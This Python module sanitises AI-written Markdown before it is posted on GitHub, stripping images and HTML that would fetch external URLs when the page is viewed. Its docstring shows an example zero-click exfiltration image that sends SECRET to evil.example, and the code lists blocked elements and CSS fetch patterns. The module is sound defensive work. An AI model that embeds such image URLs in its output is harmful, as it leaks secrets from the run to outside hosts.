"""Posted Markdown keeps nothing that fetches when the page is viewed.

Trust model: everything the model wrote is hostile. GitHub's image proxy (camo) fetches every image
of a comment, pull request body or job summary as soon as someone opens the page, so
``![](https://evil.example/p.png?d=SECRET)`` is a zero-click channel out of the run. Links need a
click and stay; what fetches on view is neutralised, visibly: an image becomes
``\\[external image removed: evil.example\\]`` (the registered domain only: the URL itself, its path
and query, are the leak and are never printed).

Kept: images on GitHub (:data:`GITHUB_HOSTS`), relative URLs (they resolve inside the repository),
and hosts the caller allows (the policy's WebFetch domains). Shields.io badges are *not* kept unless
the caller allows ``img.shields.io``: a badge URL can carry data like any other.

How, in three steps:

1. The text is parsed with a CommonMark parser (markdown-it, the spec GitHub's cmark-gfm follows),
   only to learn which lines are code (fenced or indented blocks: GitHub renders them as text, so
   they are left byte for byte), which are raw HTML blocks, and the reference definitions.
2. Prose is rewritten by a scanner that follows CommonMark's precedence (escapes, code spans, raw
   HTML, autolinks, link tails, images); HTML, in blocks and inline, by a tokenizer that follows
   the HTML standard's (attribute quoting, entities, ``/`` between attributes, ``<image>`` read as
   ``<img>``). Inside comments and processing instructions tags are looked for too: a browser may
   end them earlier than Markdown does (``--!>``, the first ``>``).
3. The result is rendered and every tag of the rendered HTML checked (:func:`fetched_resources`).
   Should anything still fetch (a construct the scanner reads differently), the blocks concerned
   are escaped outright; should even that fail, the whole text is posted as a code block.
"""

from __future__ import annotations

import functools
import html
import re
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token

#: Images served by GitHub itself: its own pages (workflow badges, attachments) and its content
#: hosts (``raw.``, ``user-images.``, ``avatars.``, ``camo.``: camo URLs are signed by GitHub).
GITHUB_HOSTS = ("github.com", "*.githubusercontent.com")
#: Fenced languages GitHub renders instead of showing as code (diagrams, maps, 3D models).
RENDERED_FENCES = frozenset({"mermaid", "geojson", "topojson", "stl"})

#: Elements removed whatever their URLs: they embed, redirect, script or style the page.
_ALWAYS_REMOVED = frozenset(
    {
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "link",
        "meta",
        "base",
        "script",
        "style",
        "svg",
        "math",
        "portal",
        "bgsound",
        "fencedframe",
    }
)
#: Attributes whose value a browser fetches without a click (``href`` only off ``<a>``/``<area>``).
_URL_ATTRIBUTES = frozenset(
    {
        "src",
        "srcset",
        "imagesrcset",
        "poster",
        "data",
        "background",
        "lowsrc",
        "dynsrc",
        "href",
        "xlink:href",
        "codebase",
        "archive",
        "classid",
        "manifest",
        "longdesc",
    }
)
_CLICK_HREF = frozenset({"a", "area"})
#: Elements that fetch their URL attributes when shown (checked again on their raw text).
_FETCHING = frozenset({"img", "image", "source", "video", "audio", "track", "input", "picture", "use", "feimage"})
_CSS_FETCH = re.compile(r"url\(|image\(|image-set\(|src\(|cross-fade\(|element\(|expression\(|@import")
_CSS_ESCAPE = re.compile(r"\\([0-9a-fA-F]{1,6})[ \t\n\r\f]?|\\(.)", re.S)
_CSS_COMMENT = re.compile(r"/\*.*?(?:\*/|$)", re.S)
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.\-]*):")
_HOST = re.compile(r"^[a-z0-9](?:[a-z0-9.\-]*[a-z0-9])?$")
#: What a browser could fetch, found in free text: ``//host``, ``scheme://host``, ``https:host``.
_URLISH = re.compile(r"(?:[A-Za-z][A-Za-z0-9+.\-]*:)?//[^\s\"'<>()\[\]{}`]*|(?i:https?):[^\s\"'<>()]+")
_ASCII_PUNCT = frozenset("!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~")
_AUTOLINK = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9.+\-]{1,31}:[^<>\x00-\x20]*|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~\-]+@"
    r"[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]{0,61}"
    r"[A-Za-z0-9])?)*)>"
)
_WHITESPACE = " \t\n\r\f"
#: CommonMark and cmark stop matching nested parentheses in a link destination here.
_MAX_PAREN_DEPTH = 32
#: Rewrites of a text before falling back to escaping: one is the rule; a second is needed when a
#: removal turned an HTML block into Markdown.
_MAX_PASSES = 3
#: A link label is at most this long (CommonMark).
_MAX_LABEL = 999


# ----- hosts -----------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Hosts:
    exact: frozenset[str]
    suffixes: tuple[str, ...]

    @classmethod
    def of(cls, allowed: Iterable[str]) -> _Hosts:
        exact: set[str] = set()
        suffixes: list[str] = []
        for entry in (*GITHUB_HOSTS, *allowed):
            host = entry.strip().removeprefix("domain:").lower().rstrip(".")
            if host.startswith("*."):
                suffixes.append(host[1:])
            elif host:
                exact.add(host)
        return cls(frozenset(exact), tuple(suffixes))

    def allow(self, host: str) -> bool:
        return host in self.exact or any(host.endswith(s) for s in self.suffixes)


def _target(url: str) -> tuple[bool, str]:
    """``(fetches from another site, host)`` for a URL as a browser reads it: tabs and newlines
    dropped, backslashes read as slashes, the slashes after ``https:`` optional."""
    url = re.sub(r"[\t\n\r]", "", url).strip("\x00 \x0c\x0b")
    url = url.replace("\\", "/")
    scheme = _SCHEME.match(url)
    if scheme:
        if scheme.group(1).lower() not in ("http", "https"):
            return True, f"{scheme.group(1).lower()}: URL"
        rest = url[scheme.end() :].lstrip("/")
    elif url.startswith("//"):
        rest = url.lstrip("/")
    else:
        return False, ""  # relative: inside the repository
    authority = re.split(r"[/?#]", rest, maxsplit=1)[0]
    host = authority.rpartition("@")[2]
    host = host.split("]")[0] + "]" if host.startswith("[") else host.partition(":")[0]
    return True, host.lower().rstrip(".")


def url_allowed(url: str, allowed_hosts: Iterable[str] = ()) -> bool:
    """May an image at ``url`` stay? Relative URLs, GitHub's hosts and ``allowed_hosts`` (``host``,
    ``*.host`` for its subdomains, or a WebFetch rule's ``domain:host``)."""
    return _allowed(url, _Hosts.of(allowed_hosts))


def _allowed(url: str, hosts: _Hosts) -> bool:
    external, host = _target(url)
    return not external or (bool(_HOST.match(host)) and hosts.allow(host))


def _shown(url: str) -> str:
    """What the removal note names: the registered domain, never a subdomain (it can carry data)."""
    external, host = _target(url)
    if not external or not _HOST.match(host):
        return "an external host"
    labels = host.split(".")
    return ".".join(labels[-2:]) if len(labels) > 1 else host


def _note(what: str, escaped: bool) -> str:
    # Escaped brackets never make a link or an image, whatever follows (``!`` before, ``(`` after).
    return f"\\[{what}\\]" if escaped else f"[{what}]"


def _md_unescape(text: str) -> str:
    """A link destination as CommonMark reads it: backslash escapes, then entities."""
    text = re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", text)
    return html.unescape(text)


# ----- HTML --------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class _Tag:
    name: str
    attributes: tuple[tuple[str, str], ...]
    end: int
    closed: bool


def _read_tag(text: str, start: int) -> _Tag:
    """The start tag at ``text[start]`` (``<`` and a letter), read with the HTML tokenizer's states.
    A tag left open runs to the end of the text: a browser would close it at some later ``>``."""
    n = len(text)
    i = start + 1
    while i < n and text[i] not in _WHITESPACE + "/>":
        i += 1
    name = text[start + 1 : i].lower()
    attributes: list[tuple[str, str]] = []
    while i < n:
        c = text[i]
        if c in _WHITESPACE or c == "/":
            i += 1
            continue
        if c == ">":
            return _Tag(name, tuple(attributes), i + 1, True)
        j = i + 1  # the attribute name; a leading '=' belongs to it
        while j < n and text[j] not in _WHITESPACE + "/>=":
            j += 1
        attr = text[i:j].lower()
        while j < n and text[j] in _WHITESPACE:
            j += 1
        value = ""
        if j < n and text[j] == "=":
            j += 1
            while j < n and text[j] in _WHITESPACE:
                j += 1
            if j < n and text[j] in "\"'":
                close = text.find(text[j], j + 1)
                close = n if close < 0 else close
                value, j = text[j + 1 : close], close + 1
            else:
                k = j
                while k < n and text[k] not in _WHITESPACE + ">":
                    k += 1
                value, j = text[j:k], k
        attributes.append((attr, html.unescape(value)))
        i = j
    return _Tag(name, tuple(attributes), n, False)


def _tag_problem(tag: _Tag, raw: str, hosts: _Hosts) -> str | None:
    """Why this tag would fetch something when shown (the note to leave instead), or ``None``."""
    name = "img" if tag.name == "image" else tag.name
    if name in _ALWAYS_REMOVED:
        return f"embedded {name} removed"
    for attr, value in tag.attributes:
        if attr == "style":
            css = _CSS_ESCAPE.sub(
                lambda m: chr(min(int(m.group(1), 16), 0x10FFFF)) if m.group(1) else m.group(2), value
            )
            css = re.sub(r"\s+", "", _CSS_COMMENT.sub("", css)).lower()
            if _CSS_FETCH.search(css):
                host = next((_shown(u) for u in _URLISH.findall(css) if not _allowed(u, hosts)), "a style")
                return f"external image removed: {host}"
        elif attr in _URL_ATTRIBUTES and not (attr == "href" and name in _CLICK_HREF):
            for url in _url_tokens(value) if attr.endswith("srcset") else [value]:
                if not _allowed(url, hosts):
                    return f"external image removed: {_shown(url)}"
    if name in _FETCHING:
        # Belt and braces: any URL in the raw text of a fetching tag, however the attributes parse.
        decoded = html.unescape(raw).replace("\\", "/")
        for url in _URLISH.findall(re.sub(r"[\t\n\r]", "", decoded)):
            if not _allowed(url, hosts):
                return f"external image removed: {_shown(url)}"
    return None


def _url_tokens(value: str) -> list[str]:
    """The URLs of a ``srcset``: every candidate (the descriptors are harmless words)."""
    return [t for t in re.split(r"[\s,]+", value) if t] or [value]


def _html_tags(text: str) -> Iterator[tuple[int, _Tag]]:
    """Every start tag in HTML text, also inside comments, declarations and attribute values of
    other tags (over-reading is harmless; under-reading is a leak)."""
    i = text.find("<")
    while 0 <= i < len(text):
        if i + 1 < len(text) and text[i + 1].isascii() and text[i + 1].isalpha():
            yield i, _read_tag(text, i)
        i = text.find("<", i + 1)


def _rewrite_html(text: str, hosts: _Hosts, escaped: bool) -> str:
    out: list[str] = []
    done = 0
    for start, tag in _html_tags(text):
        if start < done:
            continue  # inside a tag already removed
        problem = _tag_problem(tag, text[start : tag.end], hosts)
        if problem is not None:
            out.append(text[done:start])
            out.append(_note(problem, escaped))
            done = tag.end
    out.append(text[done:])
    return "".join(out)


def _html_problems(text: str, hosts: _Hosts) -> list[str]:
    return [p for start, tag in _html_tags(text) if (p := _tag_problem(tag, text[start : tag.end], hosts))]


# ----- Markdown prose ------------------------------------------------------------------------------


def code_span_end(text: str, i: int) -> tuple[int, bool]:
    """At a backtick run ``text[i]``: where its code span ends (and ``True``), or, when no run of the
    same length closes it, where the run ends (``False``: the backticks are literal)."""
    j = i
    while j < len(text) and text[j] == "`":
        j += 1
    run = j - i
    k = j
    while True:
        k = text.find("`" * run, k)
        if k < 0:
            return j, False
        end = k
        while end < len(text) and text[end] == "`":
            end += 1
        if end - k == run:
            return end, True
        k = end


def _close_bracket(text: str, i: int) -> int | None:
    """The ``]`` closing the bracket opened just before ``i`` (escapes, code spans, raw HTML and
    autolinks take precedence over brackets)."""
    depth = 0
    n = len(text)
    while i < n:
        c = text[i]
        if c == "\\":
            i += 2
            continue
        if c == "`":
            i = code_span_end(text, i)[0]
            continue
        if c == "<":
            m = _AUTOLINK.match(text, i) or _html_tag_re().match(text, i)
            if m:
                i = m.end()
                continue
        if c == "[":
            depth += 1
        elif c == "]":
            if depth == 0:
                return i
            depth -= 1
        i += 1
    return None


@dataclass(frozen=True, slots=True)
class _Tail:
    end: int
    destination: str
    inner: tuple[int, int]  # what lies between the parentheses


def _link_tail(text: str, i: int) -> _Tail | None:
    """``(destination "title")`` at ``text[i] == "("``, as CommonMark reads it, or ``None``."""
    n = len(text)
    k = i + 1
    while k < n and text[k] in _WHITESPACE:
        k += 1
    start = k
    if k < n and text[k] == "<":
        k += 1
        while k < n and text[k] not in "<>\n":
            k += 2 if text[k] == "\\" else 1
        if k >= n or text[k] != ">":
            return None
        destination = text[start + 1 : k]
        k += 1
    else:
        depth = 0
        while k < n and text[k] not in _WHITESPACE and ord(text[k]) >= 0x20:
            c = text[k]
            if c == "\\":
                k += 2
                continue
            if c == "(":
                depth += 1
                if depth > _MAX_PAREN_DEPTH:
                    return None
            elif c == ")":
                if depth == 0:
                    break
                depth -= 1
            k += 1
        if depth:
            return None
        destination = text[start:k]
    spaced = k
    while k < n and text[k] in _WHITESPACE:
        k += 1
    if k < n and text[k] in "\"'(" and k > spaced:
        closer = ")" if text[k] == "(" else text[k]
        k += 1
        while k < n and text[k] != closer:
            k += 2 if text[k] == "\\" else 1
        if k >= n:
            return None
        k += 1
        while k < n and text[k] in _WHITESPACE:
            k += 1
    if k >= n or text[k] != ")":
        return None
    return _Tail(k + 1, destination, (i + 1, k))


def _image_at(text: str, i: int, refs: dict[str, Any]) -> tuple[int, str, str | None] | None:
    """The image at ``text[i:i+2] == "!["``: where it ends, its URL and the reference label it used
    (normalised), or ``None`` (not an image)."""
    close = _close_bracket(text, i + 2)
    if close is None:
        return None
    after = close + 1
    if after < len(text) and text[after] == "(":
        tail = _link_tail(text, after)
        if tail is not None:
            return tail.end, _md_unescape(tail.destination.strip()), None
    description = text[i + 2 : close]
    if after < len(text) and text[after] == "[":
        end = text.find("]", after + 1)
        if 0 < end <= after + 1 + _MAX_LABEL:
            label = text[after + 1 : end]
            found = _reference(refs, label if label.strip() else description)
            if found is not None:
                return end + 1, *found
    found = _reference(refs, description)
    return (after, *found) if found is not None else None


def _reference(refs: dict[str, Any], label: str) -> tuple[str, str] | None:
    from markdown_it.common.utils import normalizeReference

    key = normalizeReference(label)
    entry = refs.get(key)
    href = entry.get("href") if isinstance(entry, dict) else None
    return (href, key) if isinstance(href, str) else None


def _rewrite_prose(text: str, refs: dict[str, Any], hosts: _Hosts, removed: set[str]) -> str:
    """One block's inline text with every image and raw tag that fetches replaced by a note
    (``removed`` collects the reference labels of removed images: their definitions go too)."""
    out: list[str] = []
    i = 0
    n = len(text)
    while i < n:
        c = text[i]
        if c == "\\" and i + 1 < n and text[i + 1] in _ASCII_PUNCT:
            out.append(text[i : i + 2])
            i += 2
        elif c == "`":
            end = code_span_end(text, i)[0]
            out.append(text[i:end])
            i = end
        elif c == "<":
            m = _AUTOLINK.match(text, i)
            tag = None if m else _html_tag_re().match(text, i)
            if m:
                out.append(m.group(0))
                i = m.end()
            elif tag:
                out.append(
                    text[i : tag.end()]
                    if tag.group(0).startswith("</")
                    else _rewrite_html(tag.group(0), hosts, escaped=True)
                )
                i = tag.end()
            else:
                out.append("<")
                i += 1
        elif c == "!" and text.startswith("[", i + 1):
            image = _image_at(text, i, refs)
            if image is None:
                out.append("!")
                i += 1
            elif _allowed(image[1], hosts):
                out.append(text[i : image[0]])  # its alt text is shown as plain text: nothing inside fetches
                i = image[0]
            else:
                out.append(_note(f"external image removed: {_shown(image[1])}", escaped=True))
                if image[2] is not None:
                    removed.add(image[2])
                i = image[0]
        elif c == "]" and text.startswith("(", i + 1) and (tail := _link_tail(text, i + 1)) is not None:
            # A link's tail: its destination is not prose (no code span starts in it), but should
            # no link open here, what lies between the parentheses is prose after all: read it too.
            a, b = tail.inner
            out.append(text[i:a] + _rewrite_prose(text[a:b], refs, hosts, removed) + text[b : tail.end])
            i = tail.end
        else:
            out.append(c)
            i += 1
    return "".join(out)


def _rewrite_fence(lines: list[str | None], a: int, b: int, hosts: _Hosts) -> None:
    """A rendered fence (a mermaid diagram can show an image by URL): its external URLs go."""
    for k in range(a + 1, b):
        line = lines[k]
        if line is not None:
            lines[k] = _URLISH.sub(
                lambda m: (
                    m.group(0)
                    if _allowed(m.group(0), hosts)
                    else _note(f"external image removed: {_shown(m.group(0))}", False)
                ),
                line,
            )


# ----- the document --------------------------------------------------------------------------------


def _parser() -> MarkdownIt:
    # Imported here: `bot --help` and most commands never render Markdown.
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


@functools.cache
def _html_tag_re() -> re.Pattern[str]:
    from markdown_it.common.html_re import HTML_TAG_RE

    return HTML_TAG_RE


@dataclass(slots=True)
class _Blocks:
    code: set[int]
    html: list[tuple[int, int]]
    prose: list[tuple[int, int]]
    fences: list[tuple[int, int]]


def _blocks(tokens: list[Token]) -> _Blocks:
    blocks = _Blocks(set(), [], [], [])
    for token in tokens:
        if token.map is None:
            continue
        a, b = token.map
        if token.type in ("fence", "code_block"):
            blocks.code.update(range(a, b))
            if token.type == "fence" and token.info.strip().split(" ")[0].lower() in RENDERED_FENCES:
                blocks.fences.append((a, b))
        elif token.type == "html_block":
            blocks.html.append((a, b))
        elif token.type == "inline" and (not blocks.prose or blocks.prose[-1] != (a, b)):
            blocks.prose.append((a, b))
    return blocks


def _normal(markdown: str) -> str:
    # As the parser reads it (line ends, NUL), so that its line numbers are ours.
    return re.sub(r"\r\n?", "\n", markdown).replace("\x00", "\ufffd")


def fetched_resources(markdown: str, allowed_hosts: Iterable[str] = ()) -> list[str]:
    """What showing ``markdown`` on GitHub would fetch from outside (a note per resource): the
    rendered HTML's tags, and the URLs of rendered fences. Empty means safe to post."""
    hosts = _Hosts.of(allowed_hosts)
    md = _parser()
    text = _normal(markdown)
    env: dict[str, Any] = {}
    tokens = md.parse(text, env)
    found = _html_problems(md.renderer.render(tokens, md.options, env), hosts)
    lines = text.split("\n")
    for a, b in _blocks(tokens).fences:
        body = "\n".join(lines[a + 1 : b])
        found += [f"external image removed: {_shown(u)}" for u in _URLISH.findall(body) if not _allowed(u, hosts)]
    return found


def neutralize(markdown: str, allowed_hosts: Iterable[str] = ()) -> str:
    """``markdown`` with every image and HTML element that would fetch on view replaced by a visible
    note (see the module docstring); code blocks and inline code are left as they are."""
    if "<" not in markdown and "![" not in markdown and "```" not in markdown and "~~~" not in markdown:
        return markdown  # nothing could fetch: most progress updates
    allowed = tuple(allowed_hosts)
    hosts = _Hosts.of(allowed)
    text = _normal(markdown)
    # A removal can change the blocks around it (an HTML block that began with the removed tag is a
    # paragraph now, and what was raw HTML is Markdown): read the result again, a few times.
    for _ in range(_MAX_PASSES):
        text = _pass(text, hosts)
        if not fetched_resources(text, allowed):
            return text
    return _escape_fallback(text, allowed)


def _pass(text: str, hosts: _Hosts) -> str:
    env: dict[str, Any] = {}
    blocks = _blocks(_parser().parse(text, env))
    refs = env.get("references", {})
    removed: set[str] = set()
    lines: list[str | None] = list(text.split("\n"))
    handled = set(blocks.code)
    for a, b in blocks.fences:
        _rewrite_fence(lines, a, b, hosts)
    for a, b in blocks.html:
        _replace(lines, a, b, lambda chunk: _rewrite_html(chunk, hosts, escaped=False))
        handled.update(range(a, b))
    for a, b in blocks.prose:
        if a not in handled:
            _replace(lines, a, b, lambda chunk: _rewrite_prose(chunk, refs, hosts, removed))
            handled.update(range(a, b))
    for k, line in enumerate(lines):  # reference definitions, rules: lines the parser gave no block
        if k not in handled and line:
            lines[k] = _rewrite_prose(line, refs, hosts, removed)
    for label in removed:  # the definition holds the URL (its query is the leak): it goes too
        where = refs[label].get("map")
        if isinstance(where, list) and len(where) == 2:
            lines[where[0] : where[1]] = [""] * (where[1] - where[0])
    return "\n".join(line for line in lines if line is not None)


def _replace(lines: list[str | None], a: int, b: int, rewrite: Callable[[str], str]) -> None:
    """Rewrite lines ``a:b`` as one text; the result takes slot ``a`` (the others are emptied, so
    that the parser's line numbers stay valid for the blocks after)."""
    chunk = "\n".join(line for line in lines[a:b] if line is not None)
    new = rewrite(chunk)
    if new != chunk:
        lines[a] = new
        lines[a + 1 : b] = [None] * (b - a - 1)


def _escape_fallback(text: str, allowed: tuple[str, ...]) -> str:
    """The scanner and the parser disagreed: escape every tag and image opener outside code
    blocks, so nothing in those lines is markup any more; as the last resort, post it as code."""
    hosts = _Hosts.of(allowed)
    blocks = _blocks(_parser().parse(text, {}))
    lines: list[str | None] = list(text.split("\n"))
    for k, line in enumerate(lines):
        if k not in blocks.code and line:
            lines[k] = line.replace("<", "&lt;").replace("![", "&#33;[")
    for a, b in blocks.fences:
        _rewrite_fence(lines, a, b, hosts)
    result = "\n".join(line for line in lines if line is not None)
    if not fetched_resources(result, allowed):
        return result
    ticks = "```"
    while ticks in text:
        ticks += "`"
    return f"\\[shown as code: it would have loaded external content\\]\n\n{ticks}text\n{text}\n{ticks}"
